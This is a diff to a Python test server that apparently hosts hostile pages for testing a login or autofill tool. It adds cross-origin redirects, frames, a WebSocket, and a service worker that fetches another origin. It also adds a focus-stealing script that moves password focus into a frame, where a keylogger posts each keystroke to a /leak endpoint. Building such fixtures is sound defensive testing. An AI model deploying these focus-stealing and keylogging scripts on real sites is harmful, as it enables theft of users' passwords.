@@ -46,6 +46,9 @@ class Portal:
     solve_ms: int = 1500
     steel_solving_until: float = 0.0
     steel_queries: int = 0
+    # Another origin that the attack pages frame or redirect to.
+    away: str = ""
+    leaks: list[str] = field(default_factory=list)
 
 
 def _page(body: str, title: str = "Portal", script: str = "") -> bytes:
@@ -78,6 +81,59 @@ def _handler(portal: Portal) -> type[BaseHTTPRequestHandler]:
                 self._send(self._form(path.removeprefix("/login/")))
             elif path in ("/refuse", "/slow", "/bb-after", "/steel"):
                 self._send(self._form("standard"))
+            elif path == "/redirect-away":
+                self._send(b"", 302, headers={"Location": portal.away})
+            elif path == "/frame-away":
+                self._send(_page(f'<h1>Framed</h1><iframe src="{portal.away}"></iframe>'))
+            elif path == "/socket-away":
+                target = portal.away.replace("http://", "ws://")
+                script = f"""<script>
+const socket = new WebSocket({json.dumps(target)});
+socket.onerror = socket.onclose = () => {{ document.title = 'closed'; }};
+</script>"""
+                self._send(_page("<h1>Socket</h1>", "Socket", script))
+            elif path == "/worker-away":
+                script = """<script>
+navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready)
+  .then(() => { document.title = 'registered'; });
+</script>"""
+                self._send(_page("<h1>Worker</h1>", "Worker", script))
+            elif path == "/worker.js":
+                # The service worker fetches the other address itself, then says so to its own origin.
+                script = f"""self.addEventListener('activate', (event) => {{
+  event.waitUntil(fetch({json.dumps(portal.away + "/from-worker")}, {{mode: 'no-cors'}})
+    .then(() => 'fetched', () => 'failed')
+    .then((outcome) => fetch('/worker-done?' + outcome)));
+}});"""
+                self._send(script.encode(), content_type="text/javascript")
+            elif path == "/worker-done":
+                portal.posts.append({"path": self.path})
+                self._send(b"ok", content_type="text/plain")
+            elif path == "/framed":
+                # The login form of another origin inside a frame of this one.
+                self._send(_page(f'<h1>Sign in</h1><iframe src="{portal.away}/login/standard" width=600 height=300></iframe>'))
+            elif path == "/focus-steal":
+                # A form whose password field hands focus to another origin's frame.
+                script = """<script>
+const frame = document.querySelector('iframe');
+document.querySelector('input[type=password]').addEventListener('focus', () => frame.focus());
+</script>"""
+                self._send(self._form("standard", script=f'<iframe src="{portal.away}/keys"></iframe>' + script))
+            elif path == "/keys":
+                # Records whatever is typed into it.
+                script = """<script>
+const box = document.querySelector('input');
+window.addEventListener('focus', () => box.focus());
+box.addEventListener('input', () => fetch('/leak', {method: 'POST', body: box.value}));
+</script>"""
+                self._send(_page("<input autofocus>", "Frame", script))
+            elif path == "/otp":
+                self._send(_page('<form method=post action="/otp"><input name=otp autocomplete=one-time-code>'
+                                 '<button type=submit>Verify</button></form>', "Verify"))
+            elif path in ("/otp-same", "/otp-away"):
+                self._send(self._form("standard"))
+            elif path == "/sandboxed":
+                self._send(self._form("standard"), headers={"Content-Security-Policy": "sandbox allow-forms allow-scripts"})
             elif path == "/js":
                 # A script-driven form: no navigation, the page answers in place.
                 script = """<script>
@@ -107,7 +163,12 @@ document.querySelector('form').addEventListener('submit', async (event) => {
         def do_POST(self) -> None:  # noqa: N802
             path = self.path.split("?")[0]
             length = int(self.headers.get("Content-Length", "0"))
-            fields = {k: v[0] for k, v in parse_qs(self.rfile.read(length).decode()).items()}
+            raw = self.rfile.read(length).decode()
+            if path == "/leak":
+                portal.leaks.append(raw)
+                self._send(b"{}", content_type="application/json")
+                return
+            fields = {k: v[0] for k, v in parse_qs(raw).items()}
             portal.posts.append({"path": path, **fields})
             if path.startswith("/login/"):
                 layout = path.removeprefix("/login/")
@@ -119,6 +180,13 @@ document.querySelector('form').addEventListener('submit', async (event) => {
                     self._send(self._form(layout, "Invalid username or password."))
             elif path == "/refuse":
                 self._send(self._form("standard", "Invalid username or password."))
+            elif path in ("/otp-same", "/otp-away"):
+                # A password accepted, then a one-time code asked for: here, or after a redirect elsewhere.
+                target = "/otp" if path == "/otp-same" else f"{portal.away}/otp"
+                self._send(b"", 303, headers={"Location": target})
+            elif path == "/otp":
+                self._send(b"", 303, headers={"Location": "/welcome"})
+
             elif path == "/js-api":
                 ok = fields.get("username") == USERNAME and fields.get("password") == PASSWORD
                 self._send(b"{}" if ok else b'{"error":"invalid"}', 200 if ok else 401, "application/json")
